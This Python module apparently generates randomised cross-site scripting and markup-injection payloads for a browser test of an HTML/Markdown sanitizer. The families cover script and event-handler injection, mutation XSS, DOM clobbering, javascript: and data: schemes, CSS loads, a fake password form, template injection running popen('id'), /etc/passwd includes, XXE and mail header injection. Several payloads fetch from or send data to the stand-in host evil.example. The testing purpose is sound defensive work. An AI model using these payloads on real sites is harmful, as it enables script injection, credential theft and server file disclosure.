"""Hostile texts of many families, made at random from a seed: what runs a script, asks another host, or leaves its article.

A payload that works calls `hit()` or asks `evil.example` for something; the browser test counts both.
"""

from __future__ import annotations

import base64
import random
import re
from collections.abc import Callable, Iterator

HOST = "evil.example"
HOOK = "hit()"

FAMILIES: dict[str, Callable[[random.Random], str]] = {}
"""By name; each makes another payload every time."""

Made = Callable[[random.Random], str]


def family(make: Made) -> Made:
    FAMILIES[make.__name__.replace("_", "-")] = make
    return make


def payloads(count: int, seed: int = 1) -> Iterator[tuple[str, str]]:
    """So many different payloads with their families, each family in its turn."""
    rng = random.Random(seed)
    seen: set[str] = set()
    names = [*FAMILIES]
    number = 0
    while len(seen) < count:
        name = names[number % len(names)]
        number += 1
        text = FAMILIES[name](rng)
        if text not in seen:
            seen.add(text)
            yield name, text


EVENTS = (
    "onerror onload onclick onfocus onmouseover onmouseenter onpointerenter onanimationstart onanimationend ontransitionend ontoggle onbeforetoggle onscroll "
    "onscrollend onwheel onbegin onend onrepeat onstart onfinish onbounce onpageshow onhashchange onresize onbeforecopy oncopy onpaste onfocusin onauxclick "
    "oncontentvisibilityautostatechange onsecuritypolicyviolation onsearch oninvalid oninput oncuechange oncanplay onloadstart onunhandledrejection"
).split()

ALLOWED = "p div b i em strong a span ul li ol dl dt dd blockquote details summary figure figcaption img table td th tr code pre q abbr ins del mark".split()

ELEMENTS = (
    "svg math mtext mglyph malignmark annotation-xml foreignObject desc title style table caption colgroup form select option optgroup template "
    "noscript noembed noframes xmp listing plaintext textarea iframe frameset p a b i u li ul dd button font nobr h2 h3 div details summary "
    "marquee object applet audio video input image img br hr body html head main article section mi mo mn ms semantics use path g animate set "
    "script"
).split()


def call(rng: random.Random) -> str:
    """A script that calls the hook."""
    return rng.choice(
        (
            "hit()",
            "top.hit()",
            "window['hit']()",
            "hit``",
            "self[/hi/.source+/t/.source]()",
            "Function('hit()')()",
            "setTimeout('hit()')",
            "[1].map(hit)",
            "hit.call()",
            "alert(1)",
            "parent.hit&&hit()",
            f"import('//{HOST}/x.js')",
            f"fetch('//{HOST}/f')",
            f"new Image().src='//{HOST}/i'",
            f"document.body.innerHTML='<img src=//{HOST}/b>'",
            "navigator.sendBeacon?.('//" + HOST + "/s'),hit()",
        )
    )


def remote(rng: random.Random) -> str:
    """An address of another host, in one of the ways to write one."""
    name = rng.choice(("x.png", "x.js", "x.css", "", "p?q=1&r=2", "a b", "x.svg#f"))
    return rng.choice(
        ("https://{0}/{1}", "http://{0}/{1}", "//{0}/{1}", "\\\\{0}/{1}", "/\\{0}/{1}", "https:{0}/{1}", "HTTPS://{0}/{1}", "https:/\\{0}/{1}")
    ).format(HOST, name)


def cased(rng: random.Random, text: str) -> str:
    """Letters in any case."""
    return "".join(rng.choice((c.upper(), c.lower())) for c in text)


def gap(rng: random.Random) -> str:
    """What may stand between a tag's name and its attributes."""
    return rng.choice((" ", "/", "\n", "\t", "  ", " / ", "\r\n", "/x/", ' "" ', "\f"))


def attribute(rng: random.Random, name: str, value: str) -> str:
    """An attribute as one of HTML's spellings has it."""
    mark = rng.choice(('"', "'", "", "`"))
    value = entities(rng, value) if rng.random() < 0.2 else value
    equals = rng.choice(("=", " = ", "=\t"))
    return f"{cased(rng, name) if rng.random() < 0.3 else name}{equals}{mark}{value}{mark}"


def tag(rng: random.Random, name: str, *attributes: str) -> str:
    """A start tag in one of HTML's spellings."""
    written = cased(rng, name) if rng.random() < 0.3 else name
    return f"<{written}{''.join(gap(rng) + each for each in attributes)}{rng.choice(('>', '>', ' >', '/>', ' //>', '', chr(10)))}"


def entities(rng: random.Random, text: str) -> str:
    """Letters as character references."""
    forms: tuple[Callable[[str], str], ...] = (
        lambda c: f"&#{ord(c)};",
        lambda c: f"&#x{ord(c):x};",
        lambda c: f"&#{ord(c):07d}",
        lambda c: f"&#X{ord(c):04X};",
        lambda c: {"<": "&lt;", ">": "&gt;", '"': "&quot;", "&": "&amp;", ":": "&colon;", "(": "&lpar;", ")": "&rpar;", "\n": "&NewLine;"}.get(c, c),
    )
    share = rng.choice((0.2, 0.6, 1.0))
    return "".join(rng.choice(forms)(c) if rng.random() < share else c for c in text)


def event(rng: random.Random) -> str:
    return attribute(rng, rng.choice(EVENTS), call(rng))


def runner(rng: random.Random) -> str:
    """Markup that runs a script wherever it is let through."""
    js = call(rng)
    return rng.choice(
        (
            f"<img src=x onerror={js}>",
            f"<svg onload={js}>",
            f"<svg><script>{js}</script></svg>",
            f"<details open ontoggle={js}>",
            f"<body onload={js}>",
            f"<script>{js}</script>",
            f"<input autofocus onfocus={js}>",
            f"<iframe srcdoc='<script>parent.{HOOK}</script>'></iframe>",
            f"<video><source onerror={js}></video>",
            f"<style>@keyframes x{{}}</style><b style=animation-name:x onanimationstart={js}>",
            f"<math href=javascript:{js}>x</math>",
            f"<object data=javascript:{js}>",
        )
    )


@family
def script(rng: random.Random) -> str:
    js = call(rng)
    return rng.choice(
        (
            f"<{cased(rng, 'script')}{gap(rng)}>{js}</{cased(rng, 'script')}{gap(rng)}>",
            f"<script{gap(rng)}src{rng.choice(('=', ' = '))}{remote(rng)}></script>",
            f"<scr<script>ipt>{js}</scr</script>ipt>",
            f"<script type=module>{js}</script>",
            f"<script{gap(rng)}src=data:text/javascript,{js}>",
            f"<script>/*\n\n*/{js}\n\n</script>",
            f"<<script>{js}//<</script>",
            f"<script\x0c>{js}</script>" if rng.random() < 0.2 else f"<script async defer src={remote(rng)}",
            f"<noscript></noscript><script nomodule>{js}</script>",
            f'<script type="text/javascript" language=vbs>{js}<!--</script>',
            f'<script type=speculationrules>{{"prefetch":[{{"source":"list","urls":["{remote(rng)}"]}}]}}</script>',
            f'<script type=importmap>{{"imports":{{"a":"{remote(rng)}"}}}}</script>',
        )
    )


@family
def events_on_what_is_allowed(rng: random.Random) -> str:
    name = rng.choice(ALLOWED)
    extra = rng.choice(("", "tabindex=1", "autofocus", "open", "contenteditable", 'style="animation:x"', "src=x", "hidden", "popover"))
    return tag(rng, name, *rng.sample([extra, event(rng), event(rng)], 3)) + "words" + rng.choice((f"</{name}>", ""))


@family
def attributes_broken_open(rng: random.Random) -> str:
    name, outer = rng.choice(ALLOWED), rng.choice(("title", "alt", "href", "id", "lang", "dir", "class", "src", "start", "colspan"))
    closer = rng.choice(('"', "'", "`", "&quot;", "&#34", '\\"', '"">', "'>", "\u201d", "\u0022\u0338"))
    return f"<{name} {outer}{rng.choice(('=', ' =', '= '))}{rng.choice(chr(34) + chr(39))}x{closer} {event(rng)} {closer}>{closer}>{runner(rng)}"


@family
def mutation(rng: random.Random) -> str:
    """What is harmless to one parser and not to the next."""
    chain = [rng.choice(ELEMENTS) for _ in range(rng.randint(2, 7))]
    opened = "".join(
        f"<{name}>" if rng.random() < 0.85 else f"<{name}{gap(rng)}{rng.choice(('', 'id=x', 'encoding=text/html', 'definitionurl=x'))}>" for name in chain
    )
    if rng.random() < 0.3:
        opened += f"</{rng.choice(chain)}>" + f"<{rng.choice(chain)}>"
    holder = rng.choice(("style", "title", "xmp", "noscript", "textarea", "iframe", "noembed", "!--", "a", "p", "template", "![CDATA[", "listing", "select"))
    inner = rng.choice(
        (
            f'<a title="</{holder}>{runner(rng)}">',
            f'<img alt="</{holder}>{runner(rng)}">',
            f'<p id="-->{runner(rng)}">',
            f"&lt;/{holder}&gt;{runner(rng)}",
            f'<a href="]]>{runner(rng)}">',
            f"<!--</{holder}>{runner(rng)}-->",
            f"</{rng.choice(chain)}>{runner(rng)}",
        )
    )
    return f"{opened}<{holder}{'' if holder.startswith('!') else '>'}{inner}"


@family
def mutation_known(rng: random.Random) -> str:
    inner = runner(rng).replace('"', "&quot;")
    spelt = inner.replace("<", "&lt;").replace(">", "&gt;")
    return rng.choice(
        (
            f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;{spelt}">',
            f'<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style>{inner}">',
            f'<svg></p><style><a id="</style>{inner}">',
            f'<noscript><p title="</noscript>{inner}">',
            f'<svg><annotation-xml><foreignobject><style><!--</style><p id="--><img src=x onerror={HOOK}>">',
            f'<math><annotation-xml encoding="text/html"><style></math>{inner}</style>',
            f"<select><iframe></select>{inner}",
            f"<table><td><svg><desc><table><tr><td></svg>{inner}",
            f"<svg><style>&lt;/style&gt;{inner}</style>",
            f'<a><table><a title="{inner}"></table>{inner}',
            f"{'<b>' * rng.randint(200, 520)}<style>{inner}</style>",
            f"<p><button><p><svg><title></p></title>{inner}",
            f"<math><mi><mglyph></mi><style></math>{inner}",
            f'<svg><a><foreignobject><a><table><a></table><style><!--</style></svg><a id="-{inner}-"',
        )
    )


@family
def namespaces(rng: random.Random) -> str:
    js = call(rng)
    return rng.choice(
        (
            f'<svg:script xmlns:svg="http://www.w3.org/2000/svg">{js}</svg:script>',
            f'<x:script xmlns:x="http://www.w3.org/1999/xhtml">{js}</x:script>',
            f"<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='{js}'/></svg>#x\"/></svg>",
            f'<svg><a xlink:href="javascript:{js}"><text y=20>x</text></a></svg>',
            f"<svg><animate attributeName=href values=javascript:{js} /><set attributeName=onclick to={js}></svg>",
            f"<math><maction actiontype=statusline xlink:href=javascript:{js}>x</maction></math>",
            f'<?xml version="1.0"?><?xml-stylesheet href="{remote(rng)}"?><html xmlns="http://www.w3.org/1999/xhtml"><script>{js}</script>',
            f"<svg><![CDATA[</svg>{runner(rng)}]]>",
            f"<svg><image href={remote(rng)}></svg><svg><feImage xlink:href={remote(rng)}></svg>",
            f"<math><mtext><img src={remote(rng)} onerror={js}></math>",
            f'<svg><foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="{js}"></foreignObject></svg>',
            f"<svg><handler xmlns:ev=http://www.w3.org/2001/xml-events ev:event=load>{js}</handler></svg>",
        )
    )


@family
def clobbering(rng: random.Random) -> str:
    name = rng.choice(
        "main body head document location cookie forms images links scripts getElementById querySelector attributes parentNode nodeName children innerHTML "
        "nextSibling defaultView implementation currentScript answers corrections answers-title topics-title share-title __proto__ constructor".split()
    )
    return rng.choice(
        (
            f"<a id={name}></a><a id={name} name=x href='{remote(rng)}'>x</a>",
            f"<img name={name}>",
            f"<form id={name}><input name={name}><output id=x></form>",
            f"<p id={name}>x</p>",
            f'<object name="{name}" id="{name}"></object>',
            f"<iframe name={name} srcdoc=x></iframe>",
            f"## Heading {{: #{name} }}",
            f"## {name}\n\n[x](#{name})",
            f"<h2 id='{name}' name='{name}'>x</h2>",
            f"<div id=s-s-{name} tabindex=-1 accesskey=x>x</div>",
            f"[^{name}]\n\n[^{name}]: a note",
        )
    )


@family
def references(rng: random.Random) -> str:
    text = runner(rng)
    for _ in range(rng.randint(1, 3)):
        text = entities(rng, text)
    return text


@family
def schemes(rng: random.Random) -> str:
    js = call(rng)
    scheme = rng.choice(("javascript", "vbscript", "livescript", "mocha", "feed:javascript", "view-source:javascript", "jar:javascript", "x-javascript"))
    at = rng.randrange(1, len(scheme))
    broken = (
        scheme[:at] + rng.choice(("", "\t", "\n", "\r", "&#9;", "&#10;", "&Tab;", "&NewLine;", "\u00ad", "\u200b", "&#173;", "%09", "\u2028")) + scheme[at:]
    )
    lead = rng.choice(("", " ", "&#1;", "\u00a0", "&#x20;", "\u2003", "&#14;", "\ufeff", "//"))
    colon = rng.choice((":", "&colon;", "&#58;", "&#x3A;", "\uff1a", "%3a", ":\n", "://%0a"))
    address = rng.choice(
        (
            f"{lead}{cased(rng, broken) if '&' not in broken else broken}{colon}{js}",
            f"data:text/html;base64,{base64.b64encode(f'<script>{js}</script>'.encode()).decode()}",
            f"data:text/html,<script>{js}</script>",
            f"data:image/svg+xml,<svg onload={js} xmlns=http://www.w3.org/2000/svg>",
            f"data:,{js}",
            f"blob:https://{HOST}/x",
            "file:///etc/passwd",
            f"intent://{HOST}#Intent;scheme=javascript;end",
            f"ms-word:ofe|u|https://{HOST}/x.docm",
            f"tel:1;javascript:{js}",
            f"https://{HOST}%2f@ok.example\\@{HOST}",
            f"https:javascript:{js}",
            f"{entities(rng, 'javascript:' + js)}",
        )
    )
    return rng.choice(
        ('<a href="{}">x</a>', "[x]({})", "[x](<{}>)", "<{}>", "![x]({})", "[r]: {}\n\n[x][r]", '<img src="{}">', "<a href={}>x</a>", "{}")
    ).format(address)


@family
def styles(rng: random.Random) -> str:
    where = remote(rng)
    rule = rng.choice(
        (
            f"background:url({where})",
            f"list-style-image:url('{where}')",
            f"content:url({where})",
            f"cursor:url({where}),auto",
            f"-moz-binding:url({where})",
            f"width:expression({HOOK})",
            "position:fixed;inset:0;z-index:9;background:red",
            f"--x:url({where});background:var(--x)",
            f"background:image-set('{where}' 1x)",
            f"b\\61 ckground:u\\72l({where})",
            f"behavior:url({where})",
            "display:none",
        )
    )
    return rng.choice(
        (
            f'<{rng.choice(ALLOWED)} style="{rule}">x',
            f"<style>*{{{rule}}}</style>",
            f"<style>@import '{where}';</style>",
            f"<style>@import\\20url({where});@font-face{{font-family:x;src:url({where})}}</style>",
            f"<link{gap(rng)}rel={rng.choice(('stylesheet', 'preload as=style', 'import', 'icon', '&#115;tylesheet'))} href={where}>",
            '<div class="skip-link masthead">x</div><p class="visually-hidden prose">x</p>',
            f"<font style='{rule}' color=red size=99>x</font><center><marquee>x",
            f'<td style="text-align: left; {rule}">x',
            f'| a |\n|:-:|\n| <span style="{rule}">x</span> |',
            f"<svg><style>circle{{{rule}}}</style></svg>",
        )
    )


@family
def loads(rng: random.Random) -> str:
    where = remote(rng)
    return rng.choice(
        (
            f"<img src={where}>",
            f'<img srcset="{where} 1x, {where} 2x" sizes=100vw>',
            f"<picture><source srcset='{where}'><img src=picket.png></picture>",
            f"<video src={where} poster={where} autoplay></video>",
            f"<audio autoplay src={where}><track src={where} default>",
            f"<object data={where}><param name=src value={where}></object>",
            f"<embed src={where}>",
            f"<iframe src={where} loading=eager></iframe>",
            f"<iframe srcdoc='<img src={where}>'></iframe>",
            f"<link rel=prefetch href={where}><link rel=dns-prefetch href={where}><link rel=preconnect href={where}>",
            f"<link rel=modulepreload href={where}><link rel=manifest href={where}>",
            f"<body background={where}><table background={where}><tr><td background={where}>x",
            f"<input type=image src={where}>",
            f"<image href={where}><img lowsrc={where} dynsrc={where} longdesc={where}>",
            f"<a href=https://ok.example ping={where} attributionsrc={where}>x</a>",
            f"![x]({where})",
            f'![x]({where} "t")',
            f"![x][r]\n\n[r]: {where}",
            f"<portal src={where}></portal><fencedframe src={where}></fencedframe><frameset><frame src={where}>",
            f"<img src=picket.png srcset={where}>",
            f"<blockquote cite={where}>x</blockquote><ins cite={where}>x</ins><q cite={where}>x</q>",
            f"<img src=picket.png{gap(rng)}style=background:url({where}) crossorigin usemap=#m><map name=m><area href={where}></map>",
        )
    )


@family
def heads(rng: random.Random) -> str:
    where = remote(rng)
    return rng.choice(
        (
            f"<meta http-equiv=refresh content='0;url={where}'>",
            f'<meta http-equiv={cased(rng, "refresh")} content="0; url=javascript:{HOOK}">',
            f"<base href={where} target=_blank>",
            "<meta name=referrer content=unsafe-url><meta name=viewport content=width=9999>",
            '<meta http-equiv=Content-Security-Policy content="default-src *"><meta charset=utf-7>+ADw-script+AD4-hit()+ADw-/script+AD4-',
            f"<title>x</title><link rel=canonical href={where}><link rel=alternate type=application/rss+xml href={where}>",
            f"<html lang=x onload={HOOK}><head><body bgcolor=red onload={HOOK}>",
            f"<meta property=og:image content={where}><meta http-equiv=set-cookie content=a=b>",
        )
    )


@family
def forms(rng: random.Random) -> str:
    where = remote(rng)
    return rng.choice(
        (
            f"<form action={where} id=f><input name=p type=password autocomplete=current-password><button>Log in</button></form>",
            f"<button form=f formaction=javascript:{HOOK}>x</button>",
            f"<input type=submit formaction={where} value=x>",
            f"<isindex type=image src={where} onerror={HOOK}>",
            f"<dialog open onclose={HOOK}><form method=dialog><button>x</button></form></dialog>",
            f"<button popovertarget=p>x</button><div id=p popover onbeforetoggle={HOOK}>x</div>",
            f"<textarea autofocus onfocus={HOOK}></textarea><select autofocus onfocus={HOOK}><option>x</select>",
            f"<keygen autofocus onfocus={HOOK}><fieldset><legend>x<label for=main>x</label></fieldset>",
            f"<output name=x></output><progress></progress><meter></meter><datalist id=d><option value={where}></datalist>",
            "- [ ] a box <input type=checkbox onclick=hit()>",
        )
    )


@family
def templates(rng: random.Random) -> str:
    return rng.choice(
        (
            f"<div><template shadowrootmode=open>{runner(rng)}<slot></slot></template></div>",
            f"<template>{runner(rng)}</template>",
            f"<slot name=x>{runner(rng)}</slot><x-y is=p onclick={HOOK}>x</x-y>",
            "{{ 7 * 7 }} {% raw %}{{ config }}{% endraw %} {{ ''.__class__.__mro__ }}",
            "{% set x = cycler.__init__.__globals__.os.popen('id').read() %}{{ x }}",
            "{{ self._TemplateReference__context.cycler }}{# #}{%- include '/etc/passwd' -%}",
            "${{7*7}} #{7*7} <%= 7*7 %> @(7*7) [[7*7]] {{= 7*7 }}",
            "{static}../../../etc/passwd {attach}/etc/passwd {filename}../x.md {index} |filename|x [x]({attach}/etc/passwd) ![x]({static}/.git/config)",
            f"{{{{< raw >}}}}{runner(rng)}{{{{< /raw >}}}} [x]: {{{{ site.url }}}}",
        )
    )


@family
def comments(rng: random.Random) -> str:
    inner = runner(rng)
    return rng.choice(
        (
            f"<!-->{inner}-->",
            f"<!--->{inner}-->",
            f"<!-- --!>{inner}-->",
            f"<!-- -- >{inner}<!---->",
            f"<!--[if gte IE 4]>{inner}<![endif]-->",
            f"<!DOCTYPE x [<!ENTITY y '{inner}'>]>&y;",
            f"</ foo {event(rng)}>{inner}",
            f'<? foo="><script>{HOOK}</script>">',
            f"<!{inner}>",
            f"<%{inner}%>",
            f"<//[\"'`-->]]>]</div>{inner}",
            f"<!-- {inner}",
            f"<!--\n\n-->{inner}<!--",
            f"<![CDATA[>{inner}]]>",
            f"<!--#include virtual='/etc/passwd'-->{inner}",
        )
    )


@family
def leaving_the_article(rng: random.Random) -> str:
    closings = "".join(
        f"</{rng.choice(('div', 'article', 'main', 'body', 'html', 'p', 'section', 'table', 'td', 'li', 'ul', 'blockquote', 'figure', 'h1', 'a'))}>"
        for _ in range(rng.randint(1, 8))
    )
    return rng.choice(
        (
            f"{closings}<h1>Another paper</h1><main>x</main>",
            f"{closings}<header><nav><a href=https://{HOST}>x</a></nav></header>",
            f"<{rng.choice(('plaintext', 'xmp', 'listing', 'textarea', 'title', 'noembed', 'noframes', 'select'))}>{closings}",
            f"<{rng.choice(('details', 'b', 'a href=https://ok.example', 'blockquote', 'table', 'ul', 'div', 'pre', 'font', 'math', 'svg'))}>{closings} on",
            f"<h1>One</h1><h1 id=main>Two</h1>{closings}<footer>x</footer><aside>x",
            f"{closings}<article><article><main id=main>{runner(rng)}",
            f"<table><tr><td>{closings}<table><caption>{closings}x",
            f"<p{' ' * rng.randint(0, 3)}<div>{closings}",
        )
    )


@family
def markdown_links(rng: random.Random) -> str:
    js, where = call(rng), remote(rng)
    return rng.choice(
        (
            f'[x][r] [r] ![y][r]\n\n[r]: javascript:{js} "t"',
            f'[x](https://ok.example "t\\" onmouseover=\\"{js}")',
            f"[x](https://ok.example 't\" onmouseover=\"{js}')",
            f'[x](<https://ok.example" onclick="{js}>)',
            f'[x](https://ok.example/"onclick="{js}")',
            f'<javascript:{js}> <{where}> <x@y.example?"onclick="{js}>',
            f'![x" onerror="{js}](picket.png)',
            f'![x](picket.png"onerror="{js})',
            f"![x](picket.png 't\" onerror=\"{js}')",
            f"[<img src=x onerror={js}>](https://ok.example)",
            f"[![x]({where})](javascript:{js})",
            f"[x]( {js} )[y](\t//{HOST}\t)[z](javascript&colon;{js})",
            f"[r]: https://ok.example '\"><img src=x onerror={js}>'\n[x][r]",
            f"[x]: <javascript:{js}>\n\n[x] [x][] [y][x]",
            f"[a]({'(' * 9}javascript:{js}{')' * 9})",
            "[link](" + rng.choice(("../../../../etc/passwd", "/%2e%2e/x", "mailto:a@b.example?bcc=c@d.example", "?q=1", '#"><b>', "//", "https://")) + ")",
        )
    )


@family
def markdown_blocks(rng: random.Random) -> str:
    js, inner = call(rng), runner(rng)
    return rng.choice(
        (
            f'[^n" onclick="{js}]\n\n[^n" onclick="{js}]: {inner}',
            f"[^1] [^1]\n\n[^1]: {inner}\n\n    {inner}",
            f'## A heading {{: onclick="{js}" #main .skip-link style="display:none" }}',
            f"![x](picket.png){{: onerror={js} srcset={remote(rng)} }}",
            f"```html onclick={js}\n{inner}\n```",
            f"~~~ {{ .html #main onclick={js} hl_lines='<b>' }}\n{inner}\n~~~",
            f"> > > {inner}\n> {inner}\n\n1. {inner}\n   - {inner}",
            f"`` ` {inner} ` `` `{inner}",
            f'<div markdown="1" onclick="{js}">\n\n**x** {inner}\n\n</div>',
            f"<div markdown=block>\n{inner}\n\n<p markdown=span>{inner}</p></div>",
            f"wzxhzdk:0 klzzwxh:0001 \u0002klzzwxh:0000\u0003 {inner}" if rng.random() < 0.3 else f"klzzwxh:0001 wzxhzdk:12 {inner}",
            f"[TOC]\n\n## {inner}\n\n### `{inner}` &lt;b&gt;",
            f"*[HTML]: {inner}\n\nHTML",
            f"Term {inner}\n:   Definition {inner}\n\n    {inner}",
            f"| {inner} | `{inner}` |\n|---|---|\n| [x](javascript:{js}) | {inner} |",
            f"<details><summary>{inner}</summary>\n\n{inner}\n\n</details>",
            f"\\<script>{js}\\</script> \\![x](x) \\[x](javascript:{js})",
            f"- x\n\n    {inner}\n\n        {inner}\n\n***{inner}***__{inner}__",
            f"<p>{inner}\n\n{inner}</p>\n\n<pre>\n\n{inner}</pre>",
        )
    )


@family
def json_ld(rng: random.Random) -> str:
    return rng.choice(
        (
            f"</script><script>{call(rng)}</script>",
            f"<!--<script>{call(rng)}",
            f'"}}}},{{"@type":"Person","url":"https://{HOST}"',
            f"\\u003c/script\\u003e{runner(rng)}",
            f'\\"</ScRiPt >{runner(rng)}',
            f"--></script >{runner(rng)}<script>",
            "\u2028hit()//\u2029",
        )
    )


@family
def feeds(rng: random.Random) -> str:
    inner = runner(rng)
    return rng.choice(
        (
            f"]]>{inner}<![CDATA[",
            f"]]></content:encoded></item><item><title>{inner}</title></item>",
            f"<!ENTITY xxe SYSTEM 'file:///etc/passwd'>&xxe;{inner}",
            f"<?xml-stylesheet href='{remote(rng)}'?>{inner}",
            f"</title><link>https://{HOST}/</link><title>",
            f'<enclosure url="https://{HOST}/x.exe" length="1" type="x"/>{inner}',
            f"&amp;lt;img src=x onerror={HOOK}&amp;gt; &lt;img src=//{HOST}/x&gt;",
            f'"/><outline xmlUrl="https://{HOST}/" text="{inner}',
            f"\nBEGIN:VALARM\nATTACH:https://{HOST}/\nEND:VALARM\n",
            f"\\nURL:https://{HOST}/;,\\;DESCRIPTION:{inner}",
            f'{{"content_html":"{inner}"}}',
        )
    )


@family
def mail(rng: random.Random) -> str:
    return rng.choice(
        (
            f"x\nBcc: all@{HOST}\n\n{runner(rng)}",
            f"x%0d%0aBcc:all@{HOST}&body=hit",
            f"x&body=https://{HOST}&bcc=a@{HOST}#",
            f"=?utf-8?q?=0d=0aBcc:a=40{HOST}?=",
            f'a" onclick="{HOOK}@{HOST}',
            f"mailto:a@{HOST}?subject=<img src=x onerror={HOOK}>",
            f"x\u0085Bcc: a@{HOST}",
        )
    )


@family
def directions(rng: random.Random) -> str:
    mark = rng.choice("\u202e\u202d\u202b\u2066\u2067\u2068\u200f\u061c\u2069\u200b\u200c\u200d\u2060\u00ad\u034f\u3164\u115f\ufeff\U000e0041\ufffc\u2800")
    inner = runner(rng)
    at = rng.randrange(len(inner))
    return rng.choice(
        (f"{mark}{inner}", f"{inner[:at]}{mark}{inner[at:]}", f"{mark * rng.randint(2, 60)}txt.exe {inner}", f"a{mark}b <b {mark}onclick={HOOK}>x")
    )


@family
def normal_forms(rng: random.Random) -> str:
    """What becomes markup when somebody folds it."""
    inner = runner(rng)
    swaps = rng.choice(
        (
            {"<": "\uff1c", ">": "\uff1e"},
            {"<": "\ufe64", ">": "\ufe65"},
            {"s": "\u017f", "k": "\u212a", "i": "\u0131"},
            {"<": "\u226e", ">": "\u226f"},
            {"<": "<\u0338", ">": ">\u0338"},
            {'"': "\uff02", "'": "\uff07", "=": "\uff1d"},
            {"(": "\u207d", ")": "\u207e", ":": "\ufe55"},
            {" ": "\u2028"},
            {" ": "\u00a0"},
            {"<": "\u02c2", ">": "\u02c3"},
        )
    )
    return "".join(swaps.get(c, c) for c in inner) + rng.choice(("", inner, "<b>"))


@family
def heaps(rng: random.Random) -> str:
    """Many of a thing, unclosed."""
    unit = rng.choice(
        ("<a ", "<b><i>", "<!--", "[a](", "![[]()", "<div><p>", "<table>", "**_", "`", "<svg>", "> ", "&#60;", "<a href='", "](", "<![CDATA[", "~~~\n")
    )
    return unit * rng.randint(20, 120) + runner(rng)


def one_line(text: str) -> str:
    """The payload where no line may end."""
    return re.sub(r"\s*[\n\r\f]\s*", " ", text)
